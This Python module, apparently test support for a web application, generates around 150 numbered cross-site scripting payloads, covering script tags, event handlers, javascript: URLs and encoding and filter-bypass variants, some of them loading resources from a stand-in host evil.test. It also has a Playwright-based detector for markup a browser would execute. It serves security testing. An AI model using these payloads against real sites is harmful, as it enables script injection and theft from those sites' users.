"""A hundred and fifty ways to have a page run what somebody typed, and how to tell if it does."""

from __future__ import annotations

import re
from collections.abc import Iterator
from itertools import count

from playwright.sync_api import Page

LONGEST = 3_990
"""Characters of payloads in one field: a form takes 4,000."""

# Out of what a text may stand in: an element, an attribute, a textarea, a comment, a script.
OUT_OF = ("", '">', "'>", "</textarea>", "</title>", "</select>", "--></style>")

ALIVE = (
    "<script>{}</script>",
    "<script src=//evil.test/{0}>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<a href=javascript:{} id=planted>",
    "<form action=//evil.test/{}><button formaction=javascript:{}>",
    "<math><mtext><table><mglyph><style><img src=x onerror={}>",
    "<object data=javascript:{}>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href=//evil.test/{}>",
    "<style>@import '//evil.test/{}';</style>",
    "<link rel=stylesheet href=//evil.test/{}>",
    "<div style=background:url(//evil.test/{})>",
    "<p hx-on:click={} hx-get=//evil.test hx-trigger=load>",
)

OTHERWISE = (
    '" onmouseover={} x="',
    "' onfocus={} autofocus x='",
    " onerror={} ",
    '" style="x:expression({})" x="',
    '" srcdoc="<script>{}</script>" x="',
    '" hx-get="//evil.test/{}" hx-trigger="load" x="',
    "javascript:{}",
    "JaVaScRiPt&colon;{}",
    "java\tscript:{}",
    "data:text/html,<script>{}</script>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;img src=x onerror={}&#62;",
    "%3Cscript%3E{}%3C/script%3E",
    "\uff1cscript\uff1e{}\uff1c/script\uff1e",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<ScRiPt >{}</ScRiPt\n>",
    "<img/src=x/onerror={}//",
    "<<img src=x onerror={}>>",
    "</script><script>{}</script>",
    "]]><script>{}</script>",
    "<!--><img src=x onerror={}>-->",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "{{{{ ''.__class__ }}}}{}<b>{{% raw %}}</b>",
    "%(planted)s %s {} ${{{}}}",
)


def _made() -> Iterator[str]:
    numbers = count(1)
    for way in (*(before + alive for alive in ALIVE for before in OUT_OF), *OTHERWISE):
        call = f"alert(9{next(numbers):03})"
        yield way.format(call, call)


PAYLOADS = tuple(_made())
"""Each with a number of its own, by which one can tell that it was shown."""

NUMBER = re.compile(r"alert\((9\d{3})\)")


def batches() -> list[str]:
    """All payloads, as many together as a field takes."""
    found = [""]
    for each in PAYLOADS:
        if len(found[-1]) + len(each) + 1 > LONGEST:
            found.append("")
        found[-1] += f"{each} "
    return found


# No page of ours has any of these, so that nothing has to be known about what was planted where.
TELL = r"""
(pages) => pages.map((html) => {
  const shut = new Set(["iframe", "object", "embed", "base", "frame", "applet", "math", "style",
    "audio", "video", "noscript", "scr", "mglyph"])
  const leads = new Set(["href", "src", "action", "formaction", "xlink:href", "data", "poster",
    "hx-get", "hx-post", "hx-sse:connect"])
  const ours = /^(\/(?!\/)|#|\?|$|data:image\/svg\+xml|http:\/\/127\.0\.0\.1[:\/])/
  const found = []
  for (const each of new DOMParser().parseFromString(html, "text/html").querySelectorAll("*")) {
    const tag = each.localName
    if (shut.has(tag) || each.id === "planted") found.push(`<${tag}>`)
    if (tag === "script" && (each.textContent.trim() || !each.getAttribute("src")))
      found.push("<script>")
    if (tag === "meta" && each.hasAttribute("http-equiv")) found.push("<meta>")
    for (const { name, value } of each.attributes) {
      if (/^(hx-)?on|^style$|^srcdoc$|[^a-z0-9:.-]/i.test(name) && !/^data-/.test(name))
        found.push(`<${tag} ${name}>`)
      if (leads.has(name) && !ours.test(value)) found.push(`<${tag} ${name}="${value}">`)
    }
  }
  return found
})
"""


def alive_in(page: Page, html: list[str]) -> list[str]:
    """What of some pages a real browser would run, load or send elsewhere; the page is empty."""
    found: list[str] = []
    for start in range(0, len(html), 20):
        for each in page.evaluate(TELL, html[start : start + 20]):
            found += each
    return found
